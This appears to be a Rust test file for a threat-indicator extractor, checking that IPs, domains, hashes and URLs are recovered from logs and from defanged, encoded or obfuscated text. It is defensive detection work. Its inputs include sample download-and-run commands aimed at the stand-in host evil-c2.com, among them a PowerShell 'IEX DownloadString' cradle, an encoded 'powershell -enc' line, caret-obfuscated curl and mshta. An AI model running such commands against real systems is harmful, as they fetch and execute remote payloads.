use crate::{Extractor, Item, Kind, Profile, Rejected};

fn lines(extractor: Extractor, text: &str) -> String {
    let line = |item: Item<'_>| match item {
        Item::Found(f) => format!("{} {} {:?} {}", f.kind, f.value, &text[f.span.clone()], f.via),
        Item::LeftOut(l) => format!("- {} {:?} {}", l.kind, &text[l.span.clone()], l.reason.as_str()),
    };
    extractor
        .scan_all(text.as_bytes())
        .map(line)
        .map(|l| l.trim_end().to_owned())
        .collect::<Vec<_>>()
        .join("\n")
}

fn log(text: &str) -> String {
    lines(Extractor::new(), text)
}

fn report(text: &str) -> String {
    lines(Extractor::builder().profile(Profile::Report).build(), text)
}

#[test]
fn log_lines() {
    insta::assert_snapshot!(log("SRC=91.198.174.192 DST=10.7.7.7 SPT=51515 host=bad-host.net url=http://bad-host.net/x"), @r#"
ipv4-addr 91.198.174.192 "91.198.174.192"
ipv4-addr 10.7.7.7 "10.7.7.7"
domain-name bad-host.net "bad-host.net"
url http://bad-host.net/x "http://bad-host.net/x"
domain-name bad-host.net "bad-host.net"
"#);
    insta::assert_snapshot!(log("IP 10.7.7.7.51515 > 91.198.174.192.8443: UDP, length 5"), @r#"
ipv4-addr 10.7.7.7 "10.7.7.7"
ipv4-addr 91.198.174.192 "91.198.174.192"
"#);
    insta::assert_snapshot!(log("Hashes=MD5=0C1F1E6B6E5B1F6B6A1D5E1C2B3A4F5E,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744"), @r#"
file:md5 0c1f1e6b6e5b1f6b6a1d5e1c2b3a4f5e "0C1F1E6B6E5B1F6B6A1D5E1C2B3A4F5E"
file:imphash f34d5f2d4577ed6d9ceec516c1f5a744 "F34D5F2D4577ED6D9CEEC516C1F5A744"
"#);
    insta::assert_snapshot!(log("peer ::ffff:91.198.174.192 via fe80::a00:27ff:fe4e:66a1%ens3 net 2a00:1450::/32"), @r#"
ipv4-addr 91.198.174.192 "::ffff:91.198.174.192"
ipv6-addr ::ffff:91.198.174.192 "::ffff:91.198.174.192"
ipv6-addr fe80::a00:27ff:fe4e:66a1 "fe80::a00:27ff:fe4e:66a1"
ipv6-addr 2a00:1450:: "2a00:1450::"
cidr 2a00:1450::/32 "2a00:1450::/32"
"#);
    insta::assert_snapshot!(log(r"TargetObject: HKU\S-1-5-21-1004\Software\Evil copy \\91.198.174.192\c$\y.exe"), @r#"
windows-registry-key HKEY_USERS\S-1-5-21-1004\Software\Evil "HKU\\S-1-5-21-1004\\Software\\Evil"
file-path \\91.198.174.192\c$\y.exe "\\\\91.198.174.192\\c$\\y.exe"
ipv4-addr 91.198.174.192 "91.198.174.192"
"#);
    insta::assert_snapshot!(log("opened perl.pl in os.name, product/1.2.3.4 version 4.11.2.1 at 02:42:17 std::vector a::b"), @r#"
- domain-name "perl.pl" looks-like-file-name
- domain-name "os.name" looks-like-code
- ipv4-addr "1.2.3.4" looks-like-version
- ipv4-addr "4.11.2.1" looks-like-version
- ipv6-addr "a::b" looks-like-code
"#);
    insta::assert_snapshot!(log(r#"{"image":"C:\\Windows\\Temp\\evil.exe","host":"srv01.lan","sid":"0c1f1e6b6e5b1f6b6a1d5e1c2b3a4f5e"}"#), @r#"
file-path C:\Windows\Temp\evil.exe "C:\\\\Windows\\\\Temp\\\\evil.exe"
- file:md5 "0c1f1e6b6e5b1f6b6a1d5e1c2b3a4f5e" session-id
"#);
    insta::assert_snapshot!(log("xmlns=\"http://schemas.microsoft.com/win/2004\" user <bob@evil-c2.com> CVE-2021-44228 T1059.001 AS13335"), @r#"
- url "http://schemas.microsoft.com/win/2004" boilerplate
email-addr bob@evil-c2.com "bob@evil-c2.com"
cve CVE-2021-44228 "CVE-2021-44228"
attack T1059.001 "T1059.001"
autonomous-system AS13335 "AS13335"
"#);
}

#[test]
fn defanged() {
    insta::assert_snapshot!(log("hxxps[:]//evil-c2[.]com/a.ps1 bob[at]evil-c2[.]com 45[.]77.12[.]9 2001[:]470[:]1[:]18[::]119"), @r#"
url https://evil-c2.com/a.ps1 "hxxps[:]//evil-c2[.]com/a.ps1" defang
domain-name evil-c2.com "evil-c2[.]com" defang
email-addr bob@evil-c2.com "bob[at]evil-c2[.]com" defang
ipv4-addr 45.77.12.9 "45[.]77.12[.]9" defang
ipv6-addr 2001:470:1:18::119 "2001[:]470[:]1[:]18[::]119" defang
"#);
    insta::assert_snapshot!(log("http://evil\u{200b}-c2.com/a http://evil\u{ad}-c2.com/b evil-c2。com"), @r#"
url http://evil-c2.com/a "http://evil\u{200b}-c2.com/a" invisible
domain-name evil-c2.com "evil\u{200b}-c2.com" invisible
url http://evil-c2.com/b "http://evil\u{ad}-c2.com/b" invisible
domain-name evil-c2.com "evil\u{ad}-c2.com" invisible
domain-name evil-c2.com "evil-c2。com" defang
"#);
    insta::assert_snapshot!(report("bob at evil-c2 dot com, http:// evil-c2 .com /a, 45,77,12,9; meet me at noon dot com"), @r#"
email-addr bob@evil-c2.com "bob at evil-c2 dot com" defang
url http://evil-c2.com/a "http:// evil-c2 .com /a" defang
domain-name evil-c2.com "evil-c2 .com" defang
ipv4-addr 45.77.12.9 "45,77,12,9" defang
domain-name noon.com "noon dot com" defang
"#);
}

#[test]
#[cfg(feature = "decode")]
fn encoded() {
    insta::assert_snapshot!(log("powershell -enc aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC0AYwAyAC4AYwBvAG0ALwBhAA=="), @r#"
url http://evil-c2.com/a "aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC0AYwAyAC4AYwBvAG0ALwBhAA==" base64>utf-16
domain-name evil-c2.com "aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC0AYwAyAC4AYwBvAG0ALwBhAA==" base64>utf-16
"#);
    insta::assert_snapshot!(log("proctitle=6375726C00687474703A2F2F6576696C2D63322E636F6D2F61"), @r#"
url http://evil-c2.com/a "6375726C00687474703A2F2F6576696C2D63322E636F6D2F61" hex
domain-name evil-c2.com "6375726C00687474703A2F2F6576696C2D63322E636F6D2F61" hex
"#);
    insta::assert_snapshot!(log("GET /x?u=http%3A%2F%2Fevil-c2.com%2Fa HTTP/1.1"), @r#"
url http://evil-c2.com/a "http%3A%2F%2Fevil-c2.com%2Fa" percent
domain-name evil-c2.com "evil-c2.com"
"#);
    insta::assert_snapshot!(log("cmd /c c^url h^t^t^p://ev^il-c^2.com/a"), @r#"
url http://evil-c2.com/a "h^t^t^p://ev^il-c^2.com/a" caret
domain-name evil-c2.com "ev^il-c^2.com" caret
"#);
    insta::assert_snapshot!(log("$u='ht'+'tp://ev'+'il-c2.c'+'om/a'"), @r#"
url http://evil-c2.com/a "ht'+'tp://ev'+'il-c2.c'+'om/a" concat
domain-name evil-c2.com "ev'+'il-c2.c'+'om" concat
"#);
    insta::assert_snapshot!(log("'hzzp://evil-c2.com/a'.Replace('zz','tt')"), @r#"
url http://evil-c2.com/a "hzzp://evil-c2.com/a" defang
domain-name evil-c2.com "evil-c2.com"
url http://evil-c2.com/a "evil-c2.com/a'.Replace('zz','tt'" replace
domain-name evil-c2.com "evil-c2.com/a'.Replace('zz','tt'" replace
"#);
    insta::assert_snapshot!(log("[char[]](104,116,116,112,58,47,47,101,118,105,108,45,99,50,46,99,111,109)"), @r#"
url http://evil-c2.com "(104,116,116,112,58,47,47,101,118,105,108,45,99,50,46,99,111,109)" char-codes
domain-name evil-c2.com "(104,116,116,112,58,47,47,101,118,105,108,45,99,50,46,99,111,109)" char-codes
"#);
    insta::assert_snapshot!(log("mshta http://0x2D3D0C09/a.hta"), @r#"
url http://45.61.12.9/a.hta "http://0x2D3D0C09/a.hta" integer-address
ipv4-addr 45.61.12.9 "0x2D3D0C09" integer-address
"#);
    insta::assert_snapshot!(log("a/2c-live//:ptth moc.2c-live//:ptth"), @r#"
- url "a/2c-live//:ptth" no-public-suffix
url http://evil-c2.com "moc.2c-live//:ptth" reverse
domain-name evil-c2.com "moc.2c-live//:ptth" reverse
"#);
    insta::assert_snapshot!(log("https://urldefense.proofpoint.com/v2/url?u=http-3A__evil-2Dc2.com_a&d=x"), @r#"
url https://urldefense.proofpoint.com/v2/url?u=http-3A__evil-2Dc2.com_a&d=x "https://urldefense.proofpoint.com/v2/url?u=http-3A__evil-2Dc2.com_a&d=x"
domain-name urldefense.proofpoint.com "urldefense.proofpoint.com"
url http://evil-c2.com/a "http-3A__evil-2Dc2.com_a" percent
domain-name evil-c2.com "http-3A__evil-2Dc2.com_a" percent
"#);
}

#[test]
#[cfg(feature = "decode")]
fn gzip_within_base64() {
    use std::io::Write as _;
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gzip.write_all(b"IEX (New-Object Net.WebClient).DownloadString('http://evil-c2.com/a.ps1')").unwrap();
    let bytes = gzip.finish().unwrap();
    let mut text = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0u32, |bits, b| bits << 8 | u32::from(*b)) << (8 * (3 - chunk.len()));
        for i in 0..=chunk.len() {
            let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            text.push(char::from(alphabet[(bits >> (18 - 6 * i)) as usize & 63]));
        }
    }
    let found: Vec<_> = Extractor::new().scan(&text).map(|f| format!("{} {}", f.value, f.via)).collect();
    assert_eq!(found[0], "http://evil-c2.com/a.ps1 base64>gzip");
    let none = Extractor::builder().decode(crate::DecodeLimits::NONE).build();
    assert_eq!(none.scan(&text).count(), 0);
}

#[test]
fn kinds_and_reserved_values_can_be_chosen() {
    let text = "example.com 45.77.12.9 d41d8cd98f00b204e9800998ecf8427e";
    let some = Extractor::builder().kinds([Kind::Ipv4Addr].into_iter().collect()).build();
    assert_eq!(some.scan(text).map(|f| f.kind).collect::<Vec<_>>(), [Kind::Ipv4Addr]);
    let kept: Vec<_> = Extractor::new().scan(text).map(|f| f.reserved()).collect();
    assert_eq!(kept, [Some(Rejected::ReservedName), None, Some(Rejected::EmptyFileHash)]);
    let strict = Extractor::builder().reserved(false).build();
    assert_eq!(strict.scan(text).map(|f| f.kind).collect::<Vec<_>>(), [Kind::Ipv4Addr]);
}

#[test]
fn invalid_utf8_is_skipped() {
    let found: Vec<_> = Extractor::new()
        .scan_bytes(b"\xff\xfe 45.77.12.9 \xc3 evil-c2.com\xff")
        .map(|f| f.value.into_owned())
        .collect();
    assert_eq!(found, ["45.77.12.9", "evil-c2.com"]);
}

/// Twice the text costs about twice the work: counted by the decoding budget and by what is found, not by a clock.
#[test]
#[cfg(feature = "decode")]
fn budget_bounds_nested_decoding() {
    let mut text = "http://evil-c2.com/a".to_owned();
    for _ in 0..6 {
        text = text.bytes().map(|b| format!("{b:02x}")).collect();
    }
    assert_eq!(Extractor::new().scan(&text).count(), 0, "six layers are more than the default four");
}
